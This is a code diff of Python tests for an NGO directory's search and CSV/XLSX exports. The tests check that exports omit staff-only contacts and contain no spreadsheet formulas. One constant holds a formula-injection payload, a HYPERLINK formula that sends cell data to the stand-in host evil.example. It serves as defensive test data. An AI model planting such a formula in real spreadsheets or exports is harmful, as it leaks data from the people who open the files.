@@ -6,14 +6,12 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import date
 from types import SimpleNamespace
 
 import openpyxl
 import pandas as pd
 from hypothesis import given, settings
 from hypothesis import strategies as hs
-from registry_helpers import FIRST, three_w
 from sqlalchemy import Engine
 
 from ngomap.areas.boundaries import embedded_regions
@@ -21,38 +19,23 @@ from ngomap.export.directory import directory_csv, directory_xlsx
 from ngomap.registry import accounts as ac
 from ngomap.registry import db
 from ngomap.registry import directory as dr
-from ngomap.registry import organisations as orgs
-from ngomap.registry.rounds import RoundInfo, apply_round
 from ngomap.registry.setup import init
 
 SECRET = "staff-only-directory@embassy.example"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Cliquez")'
 
 
-def _registry(db_url: str) -> Engine:
-    init(db_url, empty=True)
-    engine = db.engine_for(db_url)
-    info = RoundInfo(
-        file_name="q1.csv", sha256="0" * 64, by="importer", data_date=date(2024, 3, 31)
-    )
-    apply_round(engine, three_w(*FIRST), info)
-    ais = orgs.find(engine, "AIS")
-    orgs.edit(
-        engine,
-        ais,
-        version=orgs.get(engine, ais)["version"],
-        changes={
-            "contacts_staff": [{"name": "Chef", "email": SECRET}],
-            "contacts_public": [{"name": "Accueil", "email": "info@ais.example"}],
-            "country": "France",
-            "website": FORMULA,
-        },
-    )
-    return engine
+# What AIS's profile holds in the registry of these tests (conftest's sample_registry).
+AIS_CHANGES = {
+    "contacts_staff": [{"name": "Chef", "email": SECRET}],
+    "contacts_public": [{"name": "Accueil", "email": "info@ais.example"}],
+    "country": "France",
+    "website": FORMULA,
+}
 
 
-def test_the_directory_has_public_fields_sectors_and_areas(db_url: str) -> None:
-    engine = _registry(db_url)
+def test_the_directory_has_public_fields_sectors_and_areas(sample_registry: Engine) -> None:
+    engine = sample_registry
     found = dr.build(engine)
     assert list(found.table["name"]) == ["Aide Sahel", "Eau Pour Tous", "Jardins du Fleuve"]
     assert SECRET not in found.table.to_csv()
@@ -73,8 +56,8 @@ def test_the_directory_has_public_fields_sectors_and_areas(db_url: str) -> None:
     assert shown.iloc[0]["Type"] == "ONG internationale"
 
 
-def test_search_by_words_types_and_sectors(db_url: str) -> None:
-    table = dr.build(_registry(db_url), boundaries=embedded_regions()).table
+def test_search_by_words_types_and_sectors(sample_registry: Engine) -> None:
+    table = dr.build(sample_registry, boundaries=embedded_regions()).table
     assert list(dr.search(table, "eau")["acronym"]) == ["EPT"]
     assert list(dr.search(table, "SANTE kayes")["acronym"]) == ["AIS"]  # accents, case
     assert list(dr.search(table, "wsh")["acronym"]) == ["EPT"]  # a sector code
@@ -86,8 +69,8 @@ def test_search_by_words_types_and_sectors(db_url: str) -> None:
     assert len(dr.search(table, "   ")) == 3
 
 
-def test_exports_carry_hxl_public_fields_and_no_formula(db_url: str) -> None:
-    table = dr.build(_registry(db_url), boundaries=embedded_regions()).table
+def test_exports_carry_hxl_public_fields_and_no_formula(sample_registry: Engine) -> None:
+    table = dr.build(sample_registry, boundaries=embedded_regions()).table
     rows = list(csv.reader(io.StringIO(directory_csv(table, "en").decode("utf-8-sig"))))
     assert rows[0][:3] == ["Name", "Acronym", "Type"]
     assert rows[1][:3] == ["#org+name", "#org+acronym", "#org+type"]
